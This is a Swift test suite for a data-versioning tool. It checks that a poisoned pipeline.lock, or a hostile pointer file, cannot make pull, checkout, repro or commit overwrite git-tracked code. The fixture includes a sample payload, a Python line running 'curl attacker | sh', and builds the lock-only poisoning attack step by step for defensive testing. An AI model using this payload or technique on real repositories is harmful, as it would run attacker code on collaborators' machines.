import Foundation
import MLVSupport
import MLVTestSupport
import Testing

/// A teammate's commit that changes only `pipeline.lock` (undeclared stages and outs naming
/// git-tracked code) plus objects on the shared remote must not make `pull`, `checkout`,
/// `status`, `repro` or `commit` write over a file git tracks; and no pointer or pipeline out may
/// be written over one either.
@Suite struct LockOnlyAttackTests {
    static let trainCode = "print('the real training code')\n"
    static let evil = "import os; os.system('curl attacker | sh')\n"

    /// A committed workspace with one stage, `train.py` and `.gitattributes` tracked by git, a
    /// local remote holding the evil object, and a lock that names it for `train.py` (an
    /// undeclared stage) and `.gitattributes` (an undeclared out of the real stage).
    static func attacked() throws -> TestWorkspace {
        let ws = try TestWorkspace()
        try ws.gen(["in.txt": "input\n", "train.py": trainCode])
        try ws.write("pipeline.yaml", """
        stages:
          prep:
            cmd: cp in.txt out.txt
            deps: [in.txt]
            outs: [out.txt]

        """)
        #expect(try ws.mlv(["repro"]).status == 0)
        #expect(try ws.mlv(["remote", "add", "-d", "shared", "../store"]).status == 0)
        #expect(try ws.git(["add", "-A"]).status == 0)
        #expect(try ws.git(["commit", "-qm", "pipeline"]).status == 0)
        // The attacker's object reaches the remote (an add and push elsewhere, then forgotten here).
        try ws.write("payload", evil)
        #expect(try ws.mlv(["add", "payload"]).status == 0)
        #expect(try ws.mlv(["push"]).status == 0)
        try FS.remove(ws.path("payload.mlv"))
        try FS.remove(ws.path("payload"))
        try FS.removeTree(ws.path(".mlv/cache"))
        try ws.write(".gitignore", try ws.read(".gitignore").replacingOccurrences(of: "/payload\n", with: ""))
        let digest = SHA256Hasher.hex(evil)
        let entry = "      hash: sha256\n      sha256: \(digest)\n      size: \(evil.utf8.count)\n"
        var lock = try ws.read("pipeline.lock")
        lock = lock.replacingOccurrences(of: "    outs:\n", with: "    outs:\n    - path: .gitattributes\n" + entry)
        lock += "  evil:\n    cmd: 'true'\n    outs:\n    - path: train.py\n" + entry
        try ws.write("pipeline.lock", lock)
        #expect(try ws.git(["commit", "-qam", "lock only"]).status == 0)
        return ws
    }

    @Test func pullAndCheckoutIgnoreUndeclaredLockEntries() throws {
        let ws = try Self.attacked()
        let attributes = try ws.read(".gitattributes")
        let st = try ws.mlv(["status"])
        #expect(st.stderr.contains("mlv: warning: pipeline.lock: stage 'evil' is not in pipeline.yaml; ignored"), "\(st)")
        #expect(st.stderr.contains("mlv: warning: pipeline.lock: out '.gitattributes' of stage 'prep' is not in pipeline.yaml; ignored"), "\(st)")
        for args in [["pull"], ["pull", "--force"], ["checkout"], ["checkout", "--force"], ["fetch"], ["status", "-c"]] {
            let r = try ws.mlv(args)
            #expect(r.status == 0, "\(args): \(r)")
            #expect(r.stderr.components(separatedBy: "stage 'evil' is not in pipeline.yaml").count == 2, "warned once: \(r)")
            #expect(try ws.read("train.py") == Self.trainCode, "\(args) rewrote train.py")
            #expect(try ws.read(".gitattributes") == attributes, "\(args) rewrote .gitattributes")
        }
        #expect(try ws.read("out.txt") == "input\n")
        #expect(try ws.git(["status", "--porcelain"]).stdout == "", "git-tracked files changed")
    }

    @Test func reproAndCommitDropUndeclaredEntriesFromTheLock() throws {
        let ws = try Self.attacked()
        try ws.write("in.txt", "changed\n")
        let r = try ws.mlv(["repro"])
        #expect(r.status == 0, "\(r)")
        #expect(try ws.read("train.py") == Self.trainCode)
        let lock = try ws.read("pipeline.lock")
        #expect(!lock.contains("evil") && !lock.contains(".gitattributes"), "\(lock)")
        #expect(try ws.mlv(["commit"]).status == 0)
        #expect(try ws.read("train.py") == Self.trainCode)
    }

    @Test func aDeclaredOutThatGitTracksIsRefused() throws {
        let ws = try TestWorkspace()
        try ws.gen(["train.py": Self.trainCode])
        try ws.write("pipeline.yaml", "stages:\n  s:\n    cmd: echo x > train.py\n    outs: [train.py]\n")
        #expect(try ws.git(["add", "-A"]).status == 0)
        #expect(try ws.git(["commit", "-qm", "code"]).status == 0)
        try BadInputTests().expectRefused(ws, ["repro"], message: "refusing to write tracked data over 'train.py', which git tracks",
                                          hint: "a pointer file or pipeline.yaml names a path git tracks; check where that came from (`git log -p`). To track 'train.py' with mlv instead, `git rm -r --cached` it and commit first")
        try BadInputTests().expectRefused(ws, ["commit"], message: "refusing to write tracked data over 'train.py', which git tracks")
    }

    @Test func aPointerNamingAGitTrackedFileIsNotCheckedOut() throws {
        let ws = try TestWorkspace()
        try ws.gen(["train.py": Self.trainCode, "payload": Self.evil, "sub/keep.txt": "k"])
        #expect(try ws.mlv(["add", "payload"]).status == 0)
        let pointer = try ws.read("payload.mlv").replacingOccurrences(of: "path: payload", with: "path: train.py")
        try FS.remove(ws.path("payload.mlv"))
        try ws.write("train.py.mlv", pointer)
        try ws.write("sub.mlv", pointer.replacingOccurrences(of: "path: train.py", with: "path: sub"))
        #expect(try ws.git(["add", "train.py", "train.py.mlv", "sub"]).status == 0)
        #expect(try ws.git(["commit", "-qm", "hostile pointer"]).status == 0)
        try BadInputTests().expectRefused(ws, ["checkout", "--force", "train.py"],
                                          message: "refusing to write tracked data over 'train.py', which git tracks")
        try FS.remove(ws.path("train.py"))
        try BadInputTests().expectRefused(ws, ["checkout", "train.py"],
                                          message: "refusing to write tracked data over 'train.py', which git tracks")
        #expect(try ws.git(["checkout", "train.py"]).status == 0)
        try BadInputTests().expectRefused(ws, ["checkout", "--force", "sub"],
                                          message: "refusing to write tracked data over 'sub', which holds 'sub/keep.txt', tracked by git")
        #expect(try ws.read("train.py") == Self.trainCode)
    }
}
